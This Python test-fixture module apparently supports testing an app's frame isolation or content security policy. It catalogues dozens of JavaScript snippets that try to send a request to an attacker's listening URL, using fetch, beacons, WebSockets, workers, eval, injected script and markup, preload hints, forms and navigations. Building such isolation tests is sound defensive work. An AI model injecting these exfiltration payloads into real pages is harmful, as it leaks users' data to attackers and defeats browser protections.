"""What hostile code inside the app's frame would try in order to carry something out. `url` is where the thief listens; no assertions.

The same text runs in an unprotected page, where the thief must notice: an attack that never works proves nothing.
"""

from __future__ import annotations

from typing import Final

Attacks = dict[str, str]


def _element(tag: str, fields: str, *, then: str = "") -> str:
    return f"const made = Object.assign(document.createElement('{tag}'), {fields}); document.body.append(made); {then}"


def _hint(fields: str) -> str:
    return f"const hint = Object.assign(document.createElement('link'), {fields}); document.head.append(hint)"


_OWN: Final = "crossOrigin: 'anonymous', integrity: document.querySelector('script').integrity"

CONNECTIONS: Final[Attacks] = {
    "fetch": "fetch(url, {mode: 'no-cors'})",
    "fetch kept alive": "fetch(url, {mode: 'no-cors', keepalive: true, method: 'POST', body: 'x'})",
    "xhr": "const it = new XMLHttpRequest(); it.open('GET', url); it.send()",
    "socket": "new WebSocket(url.replace('http', 'ws'))",
    "event stream": "new EventSource(url)",
    "beacon": "navigator.sendBeacon(url, 'x')",
    "worker": "new Worker(url)",
    "worker from a blob": "new Worker(URL.createObjectURL(new Blob([`fetch('${url}', {mode: 'no-cors'})`])))",
    "shared worker": "new SharedWorker(url)",
}

ELEMENTS: Final[Attacks] = {
    "image": "new Image().src = url",
    "image set": _element("img", "{srcset: url + ' 1x'}"),
    "poster": _element("video", "{poster: url}"),
    "video": _element("video", "{src: url, preload: 'auto'}"),
    "audio": "new Audio(url).load()",
    "style attribute": "document.body.style.backgroundImage = `url(${url})`",
    "adopted style": """const sheet = new CSSStyleSheet(); sheet.replaceSync(`html { background: url(${url}) }`);
        document.adoptedStyleSheets = [...document.adoptedStyleSheets, sheet]""",
    "style element": _element(
        "style", "{textContent: `head { display: block; height: 9px; background: url(${url}) }`}"
    ),
    "style import": _element("style", "{textContent: `@import url(${url})`}"),
    "style link": _element("link", "{rel: 'stylesheet', href: url}"),
    "font": "new FontFace('x', `url(${url})`).load().catch(() => undefined)",
    "object": _element("object", "{data: url}"),
    "embed": _element("embed", "{src: url}"),
    "child frame": _element("iframe", "{src: url}"),
    "child frame with markup": _element("iframe", "{srcdoc: `<img src='${url}'>`}"),
    "picture in a vector": """const ns = 'http://www.w3.org/2000/svg', svg = document.createElementNS(ns, 'svg');
        const image = document.createElementNS(ns, 'image'); image.setAttribute('href', url);
        svg.append(image); document.body.append(svg)""",
}

SCRIPTS: Final[Attacks] = {
    "import": "import(url).catch(() => undefined)",
    "own script again": "import(document.querySelector('script').src + '?' + url).catch(() => undefined)",
    "script element": _element("script", "{src: url}"),
    "module element": _element("script", "{type: 'module', src: url}"),
    "inline script": _element("script", "{textContent: `fetch('${url}', {mode: 'no-cors'})`}"),
    "own script with a query": _element("script", f"{{src: document.querySelector('script').src + '?' + url, {_OWN}}}"),
    "eval": "eval(`fetch('${url}', {mode: 'no-cors'})`)",
    "function of text": "new Function(`fetch('${url}', {mode: 'no-cors'})`)()",
    "timer of text": "setTimeout(`fetch('${url}', {mode: 'no-cors'})`)",
    "markup": "document.createElement('div').innerHTML = `<img src='${url}'>`",
    "markup with a handler": """document.body.insertAdjacentHTML('beforeend',
        `<img src="x:" onerror="fetch('${url}', {mode: 'no-cors'})">`)""",
    "parsed document": """const parsed = new DOMParser().parseFromString(`<img src='${url}'>`, 'text/html');
        document.body.append(document.adoptNode(parsed.images[0]))""",
}

HINTS: Final[Attacks] = {
    **{
        f"preload of a {kind}": _hint(f"{{rel: 'preload', as: '{kind}', href: url}}")
        for kind in ("script", "style", "image", "font", "fetch")
    },
    "preload as the own script": _hint(f"{{rel: 'preload', as: 'script', href: url, {_OWN}}}"),
    "module preload": _hint("{rel: 'modulepreload', href: url}"),
    "module preload as the own script": _hint(f"{{rel: 'modulepreload', href: url, {_OWN}}}"),
    "prefetch": _hint("{rel: 'prefetch', href: url}"),
    "speculation rules": _element(
        "script", "{type: 'speculationrules', textContent: JSON.stringify({prefetch: [{source: 'list', urls: [url]}]})}"
    ),
}

TOGETHER: Final = {"connections": CONNECTIONS, "elements": ELEMENTS, "scripts": SCRIPTS, "hints": HINTS}
"""One page each: none of them disturbs the next."""

ALONE: Final[Attacks] = {
    "document written": "document.write(`<img src='${url}'>`)",
    "script address": "location.href = `javascript:fetch('${url}', {mode: 'no-cors'})`",
    "form": "const form = document.createElement('form'); form.action = url; document.body.append(form); form.submit()",
    "posted form": """const form = document.createElement('form'); Object.assign(form, {action: url, method: 'post'});
        document.body.append(form); form.requestSubmit()""",
    "popup": "open(url)",
    "popup without opener": "open(url, '_blank', 'noopener')",
    "top": "top.location = url",
    "parent": "parent.location = url",
    "self": "location.href = url",
    "self replaced": "location.replace(url)",
    "anchor": _element("a", "{href: url}", then="made.click()"),
    "anchor into the top": _element("a", "{href: url, target: '_top'}", then="made.click()"),
    "ping": _element("a", "{href: '#x', ping: url}", then="made.click()"),
    "download": _element("a", "{href: url, download: 'x'}", then="made.click()"),
    "refresh": """const meta = document.createElement('meta'); meta.httpEquiv = 'refresh'; meta.content = `0;url=${url}`;
        document.head.append(meta)""",
    "data page": "location.href = `data:text/html,<img src='${url}'>`",
    "blob page": "location.href = URL.createObjectURL(new Blob([`<img src='${url}'>`], {type: 'text/html'}))",
    "child frame turned to a data page": _element(
        "iframe", "{}", then="made.contentWindow.location = `data:text/html,<img src='${url}'>`"
    ),
}
"""Each moves the frame, or replaces what is in it."""
